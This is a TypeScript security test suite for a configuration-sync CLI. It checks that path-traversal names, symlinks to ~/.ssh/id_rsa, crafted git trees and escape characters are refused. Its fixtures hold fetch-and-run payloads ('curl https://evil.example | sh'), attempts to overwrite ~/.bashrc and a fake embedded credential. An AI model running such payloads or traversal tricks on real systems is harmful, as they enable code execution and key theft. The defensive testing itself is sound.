/**
 * Attack rows: paths and links (see harness.ts for what every row is checked
 * for). Names from a layer that climb out of `.claude/`, a `files` key that
 * names any file of the machine, symbolic links and crafted git trees in the
 * config repo, and the user's own links on the machine (a dotfiles farm).
 */
import assert from 'node:assert/strict';
import { cpSync, lstatSync, mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { spawnSync } from 'node:child_process';
import { cli } from '../helpers.js';
import { craftCommit, type CraftedEntry } from '../support/git-tree.js';
import { targetArgs, type AttackRow, type Sandbox, type Step } from './harness.js';

const WORKFLOWS = 'teams/frontend-team/workflows.yml';
const PERSONAS = 'teams/frontend-team/personas.yml';
const TEAM = 'teams/frontend-team/base-config.yml';
const esc = (s: string): string => s.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&');
/** What a refusal says: the file, line, column and rule (validate puts the severity before the rule). */
const at = (file: string, rule: string): RegExp => new RegExp(`${esc(file)}:\\d+:\\d+  (error  )?${rule}`);

/** Every way to get a target written or shown: each refuses, naming the file. */
const everyWay = (says: RegExp): Step[] => [
  { argv: (s) => ['validate', '--repo', s.repo, '--format', 'sarif'], exit: 1, says: /unsafe-path|files-in-document|repo-symlink|repo-path/ },
  { argv: (s) => targetArgs(s, 'apply'), exit: 1, says },
  { argv: (s) => targetArgs(s, 'apply', '--dry-run'), exit: 1, says },
  { argv: (s) => targetArgs(s, 'apply', '--force'), exit: 1, says },
  { argv: (s) => targetArgs(s, 'render', '--outputs'), exit: 1, says },
  { argv: (s) => ['render', '--repo', s.repo, '--all', '--out', join(s.home, 'render-out')], exit: 1, says },
];

/** A link in the working tree of the repo (the file it replaces removed first). */
function linkInRepo(s: Sandbox, rel: string, target: string): void {
  rmSync(join(s.repo, rel), { recursive: true, force: true });
  mkdirSync(join(s.repo, rel, '..'), { recursive: true });
  symlinkSync(target, join(s.repo, rel));
}

/** A crafted commit on top of the seed (git accepts trees `git add` never makes), applied with --rev. */
function craftedRow(attack: string, entries: (s: Sandbox) => CraftedEntry[], says: RegExp, validateSays: RegExp = says): AttackRow {
  return {
    attack,
    setup(s) {
      craftCommit(s.repo, 'crafted', entries(s));
    },
    steps: [
      { argv: (s) => ['validate', '--repo', s.repo, '--rev', 'crafted'], exit: 1, says: validateSays },
      { argv: (s) => targetArgs(s, 'apply', '--rev', 'crafted'), exit: 1, says },
      { argv: (s) => targetArgs(s, 'apply', '--rev', 'crafted', '--force'), exit: 1, says },
    ],
  };
}

/** What apply may write in a row where the rest of the target is applied. */
const TARGET_FILES = ['.claude.json', '.claude/CLAUDE.md', '.claude/{agents,commands,hooks,skills}{,/**}'];

export const rows: AttackRow[] = [
  {
    attack: "a workflow named x/../../../notes/todo in a developer's workflows.yml would overwrite ~/notes/todo.md (and render --all --out would write outside DIR)",
    setup: (s) => s.append(WORKFLOWS, 'x/../../../notes/todo:\n  description: mine now\n  prompt: pwned\n'),
    steps: everyWay(at(WORKFLOWS, 'unsafe-path  workflow name "x/\\.\\./\\.\\./\\.\\./notes/todo" has a "\\.\\." segment')),
    mayChange: ['render-out/**'],
  },
  {
    attack: 'a persona named ../../.bashrc in a team personas.yml would replace ~/.bashrc',
    setup: (s) => s.append(PERSONAS, '../../.bashrc:\n  description: d\n  prompt: curl evil | sh\n'),
    steps: everyWay(at(PERSONAS, 'unsafe-path  persona name "\\.\\./\\.\\./\\.bashrc" has a "/"')),
    mayChange: ['render-out/**'],
  },
  {
    attack: 'a base persona file named "...yml" (its name is "..") and a workflow name with escape sequences and a NUL',
    setup(s) {
      s.file('base/personas/...yml', 'description: d\nprompt: p\n');
      s.append(WORKFLOWS, '"evil\\e[2J\\0x":\n  description: d\n  prompt: p\n');
    },
    steps: everyWay(/unsafe-path  (persona name "\.\." has a "\.\." segment|workflow name "evil\\u001b\[2J\\u0000x" has a control character)/),
    mayChange: ['render-out/**'],
    check(_s, results) {
      for (const r of results) assert.doesNotMatch(r.stdout + r.stderr, /[\u0000\u001b]/, 'a raw escape sequence reached the terminal');
    },
  },
  {
    attack: 'a files key in a team document names any file of the machine (the "shadow" outside the repo) to copy into ~/.claude',
    setup: (s) => s.append(TEAM, `\nfiles:\n  stolen.txt: ../outside/shadow\n  ../../.bashrc: base/files/hooks/format-on-edit.sh\n`),
    steps: everyWay(at(TEAM, 'files-in-document')),
    mayChange: ['render-out/**'],
  },
  {
    attack: 'a files/ overlay that is a symlink to ~/.ssh/id_rsa would be copied into ~/.claude with mode 0644',
    setup: (s) => linkInRepo(s, 'teams/frontend-team/files/id_rsa', join(s.home, '.ssh', 'id_rsa')),
    steps: everyWay(at('teams/frontend-team/files/id_rsa', 'repo-symlink  is a symbolic link')),
    mayChange: ['render-out/**'],
  },
  {
    attack: 'a layer document linked to a file outside the repo (the "shadow"): validate would print its lines, into SARIF too',
    setup: (s) => linkInRepo(s, PERSONAS, join(s.outside, 'shadow')),
    steps: [...everyWay(at(PERSONAS, 'repo-symlink')), { argv: (s) => targetArgs(s, 'explain', 'personas'), exit: 1, says: at(PERSONAS, 'repo-symlink') }],
    mayChange: ['render-out/**'],
  },
  {
    attack: 'a layer document linked to .git/config: a credential in a remote URL would reach SARIF',
    setup(s) {
      s.git('remote', 'add', 'origin', 'https://bob:ghp_CredentialInGitConfig0123456789abcd@github.example.com/org/config.git');
      linkInRepo(s, WORKFLOWS, '../../.git/config');
    },
    steps: everyWay(at(WORKFLOWS, 'repo-symlink')),
    mayChange: ['render-out/**'],
    check(_s, results) {
      for (const r of results) assert.ok(!(r.stdout + r.stderr).includes('CredentialInGitConfig'), 'the credential of .git/config was printed');
    },
  },
  {
    attack: 'the layer folder teams/frontend-team is a link to a folder outside the repo',
    setup(s) {
      const elsewhere = join(s.outside, 'team');
      cpSync(join(s.repo, 'teams/frontend-team'), elsewhere, { recursive: true });
      linkInRepo(s, 'teams/frontend-team', elsewhere);
    },
    steps: [
      { argv: (s) => ['validate', '--repo', s.repo], exit: 1, says: at('teams/frontend-team', 'repo-symlink') },
      { argv: (s) => targetArgs(s, 'apply'), exit: 1, says: at('teams/frontend-team', 'repo-symlink') },
    ],
  },
  {
    attack: 'claude-env.yml is a link to a file outside the repo',
    setup(s) {
      cpSync(join(s.repo, 'claude-env.yml'), join(s.outside, 'claude-env.yml'));
      linkInRepo(s, 'claude-env.yml', join(s.outside, 'claude-env.yml'));
    },
    steps: [
      { argv: (s) => ['validate', '--repo', s.repo], exit: 1, says: at('claude-env.yml', 'repo-symlink') },
      { argv: (s) => targetArgs(s, 'apply'), exit: 1, says: at('claude-env.yml', 'repo-symlink') },
    ],
  },
  craftedRow(
    'a crafted git tree with a ".." entry under files/ would replace ~/.bashrc through apply --rev',
    () => [{ at: ['base', 'files', '..', '.bashrc'], content: 'curl https://evil.example | sh\n' }],
    at('base/files/../.bashrc', 'repo-path  has an entry named "\\.\\."'),
  ),
  craftedRow(
    'a crafted git tree with ".." two levels up under a team overlay would replace ~/notes/todo.md',
    () => [{ at: ['teams', 'frontend-team', 'files', '..', '..', 'notes', 'todo.md'], content: 'pwned\n' }],
    at('teams/frontend-team/files/../../notes/todo.md', 'repo-path'),
  ),
  craftedRow(
    'a git symbolic link (mode 120000) under files/ to ~/.ssh/id_rsa',
    (s) => [{ at: ['teams', 'frontend-team', 'files', 'id_rsa'], content: join(s.home, '.ssh', 'id_rsa'), link: true }],
    at('teams/frontend-team/files/id_rsa', 'repo-symlink'),
  ),
  craftedRow(
    'a git symbolic link (mode 120000) as a layer document, to the "shadow"',
    (s) => [{ at: ['teams', 'frontend-team', 'workflows.yml'], content: join(s.outside, 'shadow'), link: true }],
    at(WORKFLOWS, 'repo-symlink'),
  ),
  craftedRow(
    'crafted git tree entries named ".", ".git", with a control character, and one holding a "/" that lists a real overlay twice',
    () => [
      { at: ['base', 'files', '.', 'dot.md'], content: 'x\n' },
      { at: ['base', 'files', '.git', 'config'], content: 'x\n' },
      { at: ['base', 'files', 'bell\u0007.md'], content: 'x\n' },
      { at: ['base', 'files', 'hooks/format-on-edit.sh'], content: 'curl evil | sh\n' },
    ],
    /base\/files\/(\.\/dot\.md|\.git\/config|bell\\u0007\.md|hooks\/format-on-edit\.sh):1:1  (error  )?repo-path/,
  ),
  {
    attack: "import of a home whose ~/.claude/skills and an agent file are links to ~/.ssh: the private key must not reach the config repo, not even as a git object",
    setup(s) {
      mkdirSync(join(s.home, '.claude', 'agents'), { recursive: true });
      symlinkSync(join(s.home, '.ssh'), join(s.home, '.claude', 'skills'));
      symlinkSync(join(s.home, '.ssh', 'id_rsa'), join(s.home, '.claude', 'agents', 'key.md'));
    },
    steps: [
      {
        // --dry-run still commits the layer (unbranched) to prove it: what it reads reaches git's objects all the same.
        argv: (s) => ['import', '--from-home', s.home, '--into', 'user:bob', '--env', 'development', '--team', 'frontend-team', '--repo', s.repo, '--dry-run'],
        // 1: the layers below give what bob's home has not (listed); never 2 (refused) nor a crash.
        exit: [0, 1],
        says: /skills: a symbolic link: not followed[^]*agents\/key\.md: a symbolic link: not followed|agents\/key\.md: a symbolic link: not followed[^]*skills: a symbolic link: not followed/,
      },
    ],
    check(s) {
      const key = readFileSync(join(s.home, '.ssh', 'id_rsa'), 'utf8').split('\n').find((l) => l.length > 20 && !l.startsWith('-----'))!;
      const objects = spawnSync('git', ['-C', s.repo, 'cat-file', '--batch-all-objects', '--batch'], { maxBuffer: 1 << 28 }).stdout.toString('latin1');
      assert.ok(!objects.includes(key), 'a line of the private key is in a git object of the config repo');
    },
  },
  {
    attack: "import --into base of a home whose ~/.claude.json names a server \"../../access\": each server becomes base/mcp/<name>.yml, so the name must never become a path out of base/mcp",
    setup(s) {
      const file = join(s.home, '.claude.json');
      const state = JSON.parse(readFileSync(file, 'utf8')) as { mcpServers?: Record<string, unknown> };
      state.mcpServers = { ...(state.mcpServers ?? {}), '../../access': { type: 'stdio', command: 'x' } };
      writeFileSync(file, JSON.stringify(state, null, 2));
    },
    steps: [
      {
        argv: (s) => ['import', '--from-home', s.home, '--into', 'base', '--env', 'development', '--repo', s.repo],
        exit: 2,
        says: /invalid-name .*the MCP server name "\.\.\/\.\.\/access" is not a file name .*nothing was imported/,
      },
    ],
    check(s) {
      assert.equal(spawnSync('git', ['-C', s.repo, 'branch', '--list', 'import/*']).stdout.toString(), '', 'no import branch');
    },
  },
  {
    attack: "a dotfiles farm: ~/.claude/settings.json is the user's link into their dotfiles; apply (even --force) must not write through it nor replace it",
    setup(s) {
      mkdirSync(join(s.outside, 'dotfiles'));
      writeFileSync(join(s.outside, 'dotfiles', 'settings.json'), `${JSON.stringify({ theme: 'dark' }, null, 2)}\n`);
      rmSync(join(s.home, '.claude', 'settings.json'));
      symlinkSync(join(s.outside, 'dotfiles', 'settings.json'), join(s.home, '.claude', 'settings.json'));
    },
    steps: [
      { argv: (s) => targetArgs(s, 'apply'), exit: 1, says: /conflict +\.claude\/settings\.json is a symbolic link: claude-env never writes through one, nor replaces it/ },
      { argv: (s) => targetArgs(s, 'apply', '--force', '--json'), exit: 1, says: /"path": "\.claude\/settings\.json"/ },
    ],
    mayChange: TARGET_FILES,
    check(s) {
      assert.ok(lstatSync(join(s.home, '.claude', 'settings.json')).isSymbolicLink());
    },
  },
  {
    attack: "~/.claude/agents is a link to a folder outside ~/.claude: apply must not write the agents there",
    setup(s) {
      mkdirSync(join(s.outside, 'agents'));
      symlinkSync(join(s.outside, 'agents'), join(s.home, '.claude', 'agents'));
    },
    steps: [{ argv: (s) => targetArgs(s, 'apply', '--force'), exit: 1, says: /conflict +\.claude\/agents\/code-reviewer\.md is in .*\.claude\/agents, a symbolic link to a folder outside/ }],
    mayChange: ['.claude.json', '.claude/CLAUDE.md', '.claude/settings.json', '.claude/{commands,hooks,skills}{,/**}'],
    check(s) {
      assert.deepEqual(readdirSync(join(s.outside, 'agents')), []);
    },
  },
  {
    attack: "the repo renders for Codex and Gemini CLI, and the user's ~/.codex is a link to a folder outside the home and ~/.gemini/settings.json a link into their dotfiles: apply must write through neither",
    setup(s) {
      writeFileSync(join(s.repo, 'claude-env.yml'), `${readFileSync(join(s.repo, 'claude-env.yml'), 'utf8')}\nharnesses: [codex, gemini-cli]\n`);
      mkdirSync(join(s.outside, 'codex'));
      symlinkSync(join(s.outside, 'codex'), join(s.home, '.codex'));
      mkdirSync(join(s.outside, 'dotfiles'), { recursive: true });
      writeFileSync(join(s.outside, 'dotfiles', 'gemini.json'), '{ "theme": "dark" }\n');
      mkdirSync(join(s.home, '.gemini'));
      symlinkSync(join(s.outside, 'dotfiles', 'gemini.json'), join(s.home, '.gemini', 'settings.json'));
    },
    steps: [
      {
        argv: (s) => targetArgs(s, 'apply', '--force'),
        exit: 1,
        says: /conflict +\.codex\/config\.toml is in .*\.codex, a symbolic link to a folder outside[\s\S]*conflict +\.gemini\/settings\.json is a symbolic link/,
      },
    ],
    mayChange: [...TARGET_FILES, '.claude/settings.json', '.gemini/GEMINI.md'],
    check(s) {
      assert.deepEqual(readdirSync(join(s.outside, 'codex')), []);
      assert.equal(readFileSync(join(s.outside, 'dotfiles', 'gemini.json'), 'utf8'), '{ "theme": "dark" }\n');
      assert.ok(lstatSync(join(s.home, '.gemini', 'settings.json')).isSymbolicLink());
    },
  },
  {
    attack: "a project checkout commits .mcp.json as a link to ~/.bashrc: apply --project-dir must not write through it",
    setup(s) {
      mkdirSync(join(s.root, 'checkout'));
      symlinkSync(join(s.home, '.bashrc'), join(s.root, 'checkout', '.mcp.json'));
    },
    steps: [{ argv: (s) => targetArgs(s, 'apply', '--project-dir', join(s.root, 'checkout')), exit: 1, says: /conflict +@project\/\.mcp\.json is a symbolic link/ }],
    mayChange: [...TARGET_FILES, '.claude/settings.json'],
  },
  {
    attack: 'render --all --out DIR where a folder of DIR links outside it',
    setup(s) {
      mkdirSync(join(s.home, 'render-out'));
      mkdirSync(join(s.outside, 'elsewhere'));
      symlinkSync(join(s.outside, 'elsewhere'), join(s.home, 'render-out', 'development'));
    },
    steps: [{ argv: (s) => ['render', '--repo', s.repo, '--all', '--env', 'development', '--out', join(s.home, 'render-out')], exit: 1, says: /unsafe-path  .*render-out\/development\/.* is in .*render-out\/development, a symbolic link to a folder outside/ }],
    mayChange: ['render-out/**'],
    check(s) {
      assert.deepEqual(readdirSync(join(s.outside, 'elsewhere')), []);
    },
  },
  {
    attack: 'a member whose user name is ../../../escape: render --all --out would write outside DIR',
    setup: (s) => s.append('teams/frontend-team/members.yml', '- { user: "../../../escape", role: developer, projects: [web-application] }\n'),
    steps: [{ argv: (s) => ['render', '--repo', s.repo, '--all', '--out', join(s.home, 'render-out')], exit: 1, says: /unsafe-path  target name "\.\.\/\.\.\/\.\.\/escape" has a "\/"/ }],
    mayChange: ['render-out/**'],
  },
  {
    attack: "the machine's own layer (~/.claude/local-overrides.yml) names a persona ../../notes/todo",
    setup(s) {
      writeFileSync(join(s.home, '.claude', 'local-overrides.yml'), 'personas:\n  ../../notes/todo:\n    description: d\n    prompt: p\n');
    },
    steps: [{ argv: (s) => targetArgs(s, 'apply'), exit: 1, says: /local-overrides\.yml:2:3  unsafe-path  persona name "\.\.\/\.\.\/notes\/todo"/ }],
  },
  {
    attack: 'after an apply, ~/.claude/agents becomes a link to a shared folder: rollback must not remove files through it',
    async setup(s) {
      const r = await cli(targetArgs(s, 'apply'), { cwd: s.root, env: { HOME: s.home, PATH: process.env['PATH'] ?? '', ...s.env } });
      assert.equal(r.code, 0, r.stderr);
      const shared = join(s.outside, 'shared-agents');
      cpSync(join(s.home, '.claude', 'agents'), shared, { recursive: true });
      rmSync(join(s.home, '.claude', 'agents'), { recursive: true });
      symlinkSync(shared, join(s.home, '.claude', 'agents'));
    },
    steps: [{ argv: (s) => ['rollback', '--home', s.home], exit: 1, says: /unsafe-path  .*\.claude\/agents\/.*\.md is in .*\.claude\/agents, a symbolic link to a folder outside/ }],
    check(s) {
      assert.ok(readdirSync(join(s.outside, 'shared-agents')).length >= 4);
      assert.match(readFileSync(join(s.outside, 'shared-agents', 'code-reviewer.md'), 'utf8'), /^---\nname: code-reviewer/);
    },
  },
];
